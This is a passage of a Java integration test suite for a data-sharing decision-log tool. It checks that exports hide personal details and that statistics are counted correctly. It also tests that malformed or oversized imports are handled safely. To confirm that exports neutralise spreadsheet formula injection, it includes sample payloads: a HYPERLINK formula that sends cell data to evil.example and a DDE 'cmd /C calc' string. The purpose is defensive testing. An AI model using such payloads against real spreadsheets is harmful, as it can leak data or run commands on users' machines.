    String logPage = send(get(base + "/log"), asDpl).getContentAsString();
    byte[] csv = logFile(asDpl, "csv").getContentAsByteArray();
    byte[] xlsx = logFile(asDpl, "xlsx").getContentAsByteArray();
    byte[] pdf = logFile(asDpl, "pdf").getContentAsByteArray();
    StringBuilder xlsxText = new StringBuilder();
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      for (Row row : workbook.getSheetAt(0)) {
        for (Cell cell : row) {
          xlsxText.append(cell.toString()).append('|');
        }
      }
    }
    String pdfText;
    try (PDDocument document = Loader.loadPDF(pdf)) {
      pdfText = new PDFTextStripper().getText(document);
    }
    List<String> trail =
        jdbc.sql("select coalesce(summary, '') from audit_event where partnership_id = :p")
            .param("p", partnership.id())
            .query(String.class)
            .list();
    List<String> places =
        List.of(
            logPage,
            new String(csv, StandardCharsets.UTF_8),
            xlsxText.toString(),
            pdfText,
            String.join("\n", trail));
    for (String place : places) {
      assertThat(place)
          .contains("Northbridge")
          .doesNotContain("Vicky", "High Street", "1985", "Refuge Road");
    }
    assertThat(trail).anyMatch(t -> t.contains("Opened request " + number));
  }

  @Test
  void theFiguresCountTheDecisionInForceWhateverItsDate() throws Exception {
    int number = raised("GIVEN");
    madeDaysAgo(number, 20); // due 6 days ago
    MockHttpSession asSpoc = twoFactor.signIn(mvc, spoc);
    String path = "/requests/" + number + "/decision";
    send(decision(path, today, sharedToday("bases", basis("UK GDPR 6(1)(e)"))), asSpoc);
    assertThat(
            send(
                    decision(
                        path + "/correct",
                        today.minusDays(15),
                        "outcome",
                        "REFUSE",
                        "reasons",
                        "No record",
                        "bases",
                        basis("UK GDPR 6(1)(e)"),
                        "correctionReason",
                        "Refused on the day, by phone"),
                    asSpoc)
                .getRedirectedUrl())
        .isNotNull();
    Path out = dir.resolve("figures.csv");
    AdminCommands.Result result =
        commands.run(
            "sharing",
            "stats",
            "--partnership",
            partnership.slug(),
            "--from",
            today.minusDays(30).toString(),
            "--to",
            today.toString(),
            "--format",
            "csv",
            "--out",
            out.toString());
    assertThat(result.exitCode()).as(result.err()).isZero();
    // refused 5 days after it was made, before its due date: not overdue
    assertThat(Files.readString(out))
        .endsWith("\r\nNorthbridge Police,Northbridge Council,1,0,0,1,0,0,5,5\r\n");
  }

  @Test
  void aHostileImportIsRefusedOrImportedSafelyNeverAServerError() throws Exception {
    String slug = aPartnershipSlug();
    Partnership target = partnerships.named(slug);

    // files that are no decision log
    List<byte[]> hostile = new ArrayList<>();
    hostile.add(new byte[0]);
    hostile.add(HEADER.getBytes(StandardCharsets.UTF_8));
    hostile.add(
        ("\uFEFF" + HEADER + "2016-05-23,A,B,C,D,victim,E,no,,given,UK GDPR 6(1)(e),,,,,,,,\r\n")
            .getBytes(StandardCharsets.UTF_16LE));
    byte[] random = new byte[100_000];
    new java.util.Random(20).nextBytes(random);
    hostile.add(random);
    hostile.add("PK\u0003\u0004not really a zip".getBytes(StandardCharsets.ISO_8859_1));
    StringBuilder million = new StringBuilder(HEADER);
    String row = "2016-05-23,A,,C,D,victim,,,,given,UK GDPR 6(1)(e),,,,,,,,\r\n";
    for (int i = 0; i < 100_001; i++) {
      million.append(row);
    }
    hostile.add(million.toString().getBytes(StandardCharsets.UTF_8));
    hostile.add(new byte[25 * 1024 * 1024 + 1]);
    for (int i = 0; i < hostile.size(); i++) {
      Path file = file("hostile-" + i + ".csv", hostile.get(i));
      AdminCommands.Result result =
          commands.run("sharing", "import", "--partnership", slug, "--file", file.toString());
      assertThat(result.err()).as("file " + i).doesNotContain("unexpectedly");
      assertThat(result.exitCode()).as("file " + i + ": " + result.err()).isIn(0, 1);
    }
    assertThat(
            jdbc.sql("select count(*) from sharing_request where partnership_id = :p")
                .param("p", target.id())
                .query(Integer.class)
                .single())
        .isLessThanOrEqualTo(1);

    // another partnership's protocol title names this partnership's own, new, protocol
    String[] formulas = {
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
      "+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1,2)",
      "\t=1+1",
      "\u3000=1+1",
      "\uFF1D1+1"
    };
    StringBuilder log = new StringBuilder(HEADER);
    for (String formula : formulas) {
      String cell = "\"" + formula.replace("\"", "\"\"") + "\"";
      log.append("2016-05-23,")
          .append(cell)
          .append(',')
          .append(cell)
          .append(",Northbridge Council,Northbridge ISP,victim,")
          .append(cell)
          .append(",no,,given,UK GDPR 6(1)(e),2016-05-26,refuse,")
          .append(cell)
          .append(",,,")
          .append(cell)
          .append(",,\r\n");
    }
    // the same row twice is two requests, and the file again adds nothing
    String twice =
        "2016-06-01,Northbridge Police,PC Ann Smith,Northbridge Council,Northbridge ISP,victim,"
            + "Check,no,,given,UK GDPR 6(1)(e),,,,,,,,\r\n";
    log.append(twice).append(twice);
    Path file = file("formulas.csv", log.toString().getBytes(StandardCharsets.UTF_8));
    int otherParties = count("select count(*) from sharing_party where partnership_id = :p");
    AdminCommands.Result imported =
        commands.run("sharing", "import", "--partnership", slug, "--file", file.toString());
    assertThat(imported.exitCode()).as(imported.err()).isZero();
    assertThat(imported.out()).startsWith("Imported 9 requests");
    AdminCommands.Result again =
        commands.run("sharing", "import", "--partnership", slug, "--file", file.toString());
    assertThat(again.out()).startsWith("Imported 0 requests");
    // this test's partnership also has a "Northbridge ISP": it is untouched
    assertThat(count("select count(*) from sharing_party where partnership_id = :p"))
        .isEqualTo(otherParties);
    assertThat(
            jdbc.sql(
                    "select count(*) from sharing_protocol where partnership_id = :p and imported"
                        + " and title = 'Northbridge ISP'")
                .param("p", target.id())
                .query(Integer.class)
                .single())
        .isOne();

    // the log written back out neutralises every formula, in CSV and XLSX
    Path csvOut = dir.resolve("log.csv");
    Path xlsxOut = dir.resolve("log.xlsx");
    for (String[] format :
        new String[][] {{"csv", csvOut.toString()}, {"xlsx", xlsxOut.toString()}}) {
      AdminCommands.Result written =
          commands.run(
              "sharing",
              "log",
              "--partnership",
              slug,
              "--from",
              "2016-01-01",
              "--to",
              "2016-12-31",
              "--format",
              format[0],
              "--out",
              format[1],
              "--reason",
              "=HYPERLINK(\"http://evil.example\")");
      assertThat(written.exitCode()).as(written.err()).isZero();
    }
    List<String> cells = new ArrayList<>();
    for (CSVRecord record : csv(Files.readAllBytes(csvOut))) {
      record.forEach(cells::add);
    }
    try (XSSFWorkbook workbook = new XSSFWorkbook(Files.newInputStream(xlsxOut))) {
      for (Row r : workbook.getSheetAt(0)) {
        for (Cell cell : r) {
          assertThat(cell.getCellType()).isNotEqualTo(CellType.FORMULA);
          if (cell.getCellType() == CellType.STRING) {
            cells.add(cell.getStringCellValue());
          }
        }
      }
    }
    Path stats = dir.resolve("stats.csv");
    commands.run(
        "sharing",
        "stats",
        "--partnership",
        slug,
        "--from",
        "2016-01-01",
        "--to",
        "2016-12-31",
        "--format",
        "csv",
        "--out",
        stats.toString());
    for (CSVRecord record : csv(Files.readAllBytes(stats))) {
      record.forEach(cells::add);
    }
    assertThat(cells).hasSizeGreaterThan(100);
    for (String cell : cells) {
      String visible = cell.replaceFirst("^[\\s\\u3000]+", "");
      boolean risky =
          !visible.isEmpty()
              && "=+-@\uFF1D".indexOf(visible.charAt(0)) >= 0
              && !visible.matches("-?\\d+(\\.\\d+)?");
      assertThat(risky || cell.startsWith("\t")).as(cell).isFalse();
    }
  }
}
